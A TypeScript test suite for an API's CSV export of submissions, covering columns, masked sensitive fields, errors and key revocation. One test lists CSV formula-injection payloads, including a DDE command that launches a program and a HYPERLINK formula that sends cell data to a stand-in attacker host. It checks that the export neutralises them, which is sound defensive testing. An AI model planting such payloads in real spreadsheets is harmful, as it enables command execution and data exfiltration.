import { get } from "node:http";
import { afterAll, beforeAll, expect, it } from "vitest";
import { type Loose, startTestServer, type TestServer } from "../support/harness.ts";
import { AGENT, created } from "../support/moves.ts";

const CSV = { accept: "text/csv" };
const FIXED = [
  "submissionId",
  "state",
  "version",
  "createdAt",
  "updatedAt",
  "expiresAt",
  "erasedAt",
  "createdBy.kind",
  "createdBy.id",
  "lastUpdatedBy.kind",
  "lastUpdatedBy.id",
  "missingCount",
];
let server: TestServer;

beforeAll(async () => {
  server = await startTestServer();
  await server.putIntake({
    id: "orders",
    schema: {
      type: "object",
      properties: {
        name: { type: "string" },
        state: { type: "string" },
        amount: { type: "number" },
        paid: { type: "boolean" },
        address: { type: "object", properties: { city: { type: "string" }, geo: { $ref: "#/$defs/geo" } } },
        lines: { type: "array", items: { type: "object", properties: { sku: { type: "string" } } } },
        pin: { type: "string", "x-sensitive": true },
        bank: { type: "object", "x-sensitive": true, properties: { iban: { type: "string" } } },
      },
      $defs: { geo: { type: "object", properties: { lat: { type: "number" }, up: { $ref: "#/$defs/geo" } } } },
    },
  });
});
afterAll(() => server.stop());

const CELL = /"((?:[^"]|"")*)"|([^",\r\n]*)/y;

/** A strict reader of RFC 4180: it throws on whatever the standard doesn't have. */
function readCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let at = 0;
  while (at < text.length) {
    CELL.lastIndex = at;
    const [cell, quoted, plain] = CELL.exec(text) ?? [""];
    row.push(quoted?.replaceAll('""', '"') ?? plain ?? "");
    at += cell.length;
    if (text[at] === ",") at += 1;
    else if (text.startsWith("\r\n", at)) {
      rows.push(row);
      row = [];
      at += 2;
    } else throw new Error(`not CSV at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
  }
  return rows;
}

async function exported(query: string, key = server.adminKey) {
  const reply = await server.call("GET", `/submissions?${query}`, { key, headers: CSV });
  expect([reply.status, reply.headers["content-type"]]).toEqual([200, "text/csv; charset=utf-8; header=present"]);
  const [header = [], ...rows] = readCsv(reply.body as string);
  for (const row of rows) expect(row).toHaveLength(header.length);
  return {
    header,
    rows: rows.map((row) => Object.fromEntries(header.map((name, index) => [name, row[index]]))),
    reply,
  };
}

const make = async (intakeId: string, initialFields: Loose): Promise<string> =>
  (await created(server, intakeId, { body: { initialFields } })).submissionId;

it("[LISTS-CSV] has fixed columns, the leaves of the schema, and one for everything else", async () => {
  const fields = {
    name: "Ada",
    state: "Ohio",
    amount: -12.5,
    paid: true,
    address: { city: "Paris", geo: { lat: 1, up: { up: { lat: 2 } } } },
    lines: [{ sku: "a,b" }],
    extra: "not declared",
  };
  const id = await make("orders", fields);
  const { header, rows, reply } = await exported("intakeId=orders");
  expect(reply.headers["content-disposition"]).toBe('attachment; filename="orders.csv"');
  const leaves = ["name", "fields.state", "amount", "paid", "address.city", "address.geo.lat"];
  const recursion = ["address.geo.up.lat", "address.geo.up.up"];
  expect(header).toEqual([...FIXED, ...leaves, ...recursion, "lines", "pin", "bank", "otherFields"]);
  expect(rows).toEqual([
    expect.objectContaining({
      submissionId: id,
      version: "1",
      "createdBy.id": expect.any(String),
      name: "Ada",
      "fields.state": "Ohio",
      amount: "-12.5",
      paid: "true",
      "address.city": "Paris",
      "address.geo.lat": "1",
      "address.geo.up.lat": "",
      "address.geo.up.up": '{"lat":2}',
      lines: '[{"sku":"a,b"}]',
      pin: "",
      otherFields: '{"extra":"not declared"}',
    }),
  ]);
  expect((await exported("intakeId=orders&fields=false")).header).toEqual(FIXED);
});

it("[LISTS-CSV] fields declared only by an earlier version of the schema are in the last column", async () => {
  await server.putIntake({ id: "moved", schema: { type: "object", properties: { old: {}, at: { type: "string" } } } });
  await make("moved", { old: 1, at: "here" });
  const at = { type: "object", properties: { city: { type: "string" } } };
  await server.putIntake({ id: "moved", version: "2", schema: { type: "object", properties: { at } } });
  const [row] = (await exported("intakeId=moved")).rows;
  expect(row).toMatchObject({ "at.city": "", otherFields: '{"old":1,"at":"here"}' });
});

it("[LISTS-CSV-SAFE] whatever was typed is one cell, and never a formula", async () => {
  await server.putIntake({ id: "hostile", schema: { type: "object", properties: { "=name": {}, list: {} } } });
  const formulas = [
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-1+1",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    '=HYPERLINK("http://evil.example/?"&A1,"x")',
    "＝1+1",
    '=1",=2\r\n=3,"=4',
  ];
  const texts = [
    'a"b',
    "a,b",
    "a;b",
    "a\r\nb",
    "a\rb",
    "a\nb",
    '"',
    '""',
    '","',
    " x ",
    "'",
    "ünï 🙂",
    "\u0000",
    "a=b",
  ];
  for (const text of [...formulas, ...texts]) await make("hostile", { "=name": text, list: [text] });
  const { header, rows } = await exported("intakeId=hostile&limit=5");
  expect(header.slice(FIXED.length)).toEqual(["'=name", "list", "otherFields"]);
  const found = rows.toReversed().map((row) => row["'=name"]);
  expect(found).toEqual([...formulas.map((text) => `'${text}`), ...texts]);
  expect(rows.toReversed().map((row) => JSON.parse(row.list ?? "")[0])).toEqual([...formulas, ...texts]);
});

it("[LISTS-CSV-MASKED] has the submissions and the masks of the list, for every caller", async () => {
  const key = await server.makeKey({ roles: ["agent"], actor: AGENT });
  const secrets = { pin: "4711-secret", bank: { iban: "DE-secret" } };
  await make("orders", secrets);
  await created(server, "orders", { key, body: { initialFields: { name: "mine", ...secrets } } });
  for (const one of [key, server.adminKey]) {
    const listed = await server.call("GET", "/submissions?intakeId=orders&fields=true&limit=1000", { key: one });
    const { rows, reply } = await exported("intakeId=orders&limit=1", one);
    expect(rows.map((row) => row.submissionId)).toEqual(listed.body.items.map((item: Loose) => item.submissionId));
    for (const name of ["pin", "bank"]) {
      expect(rows.map((row) => row[name])).toEqual(
        listed.body.items.map(({ fields }: Loose) => (fields[name] === undefined ? "" : JSON.stringify(fields[name]))),
      );
    }
    expect(rows[0]).toMatchObject({ pin: '{"masked":true}', bank: '{"masked":true}' });
    expect(reply.body).not.toContain("secret");
  }
});

it("[LISTS-CSV-ONE-INTAKE] a refusal is an ordinary error with an explanation", async () => {
  const { nextPageToken } = (await server.call("GET", "/submissions?intakeId=orders&limit=1", { key: server.adminKey }))
    .body;
  await server.putIntake({ id: "closed", access: "key" });
  const limited = await server.makeKey({ roles: ["viewer"], actor: AGENT, intakes: ["moved"] });
  for (const [query, key, status, word] of [
    ["", server.adminKey, 400, "intakeId"],
    [`?pageToken=${nextPageToken}`, server.adminKey, 400, "intakeId"],
    [`?intakeId=orders&pageToken=${nextPageToken}`, server.adminKey, 400, "pageToken"],
    ["?intakeId=orders&limit=0", server.adminKey, 400, "limit"],
    ["?intakeId=none", server.adminKey, 404, "intake"],
    ["?intakeId=closed", limited, 404, "intake"],
    ["?intakeId=orders", undefined, 401, "key"],
  ] as const) {
    const reply = await server.call("GET", `/submissions${query}`, { headers: CSV, ...(key && { key }) });
    expect([reply.status, reply.headers["content-type"]]).toEqual([status, "application/json; charset=utf-8"]);
    expect(reply.body.error.message).toContain(word);
  }
  expect((await exported("intakeId=orders", limited)).rows).toEqual([]);
  const other = await server.call("GET", "/keys", { key: server.adminKey, headers: CSV });
  expect(other.body.ok).toBe(true);
});

it("[LISTS-CSV] [LISTS-EXPORT-RIGHTS] is read no faster than its client, and a revoked key ends it abruptly", async () => {
  await server.putIntake({ id: "large", schema: { type: "object", properties: { note: { type: "string" } } } });
  for (let index = 0; index < 60; index++) await make("large", { note: "x".repeat(200_000) });
  const made = await server.call("POST", "/keys", {
    key: server.adminKey,
    body: { name: "leaver", roles: ["viewer"], actor: { kind: "human", id: "leaver" } },
  });
  const headers = { ...CSV, authorization: `Bearer ${made.body.key}` };
  const ended = await new Promise<string>((resolve, reject) => {
    get(`${server.url}/submissions?intakeId=large&limit=1`, { headers }, (answer) => {
      answer.pause();
      answer.on("error", () => resolve("aborted"));
      answer.on("end", () => resolve("complete"));
      // Nobody reads: the pages that weren't requested yet are requested with a key that is gone by then.
      server.call("DELETE", `/keys/${made.body.keyId}`, { key: server.adminKey }).then(() => answer.resume(), reject);
    }).on("error", reject);
  });
  expect(ended).toBe("aborted");
});
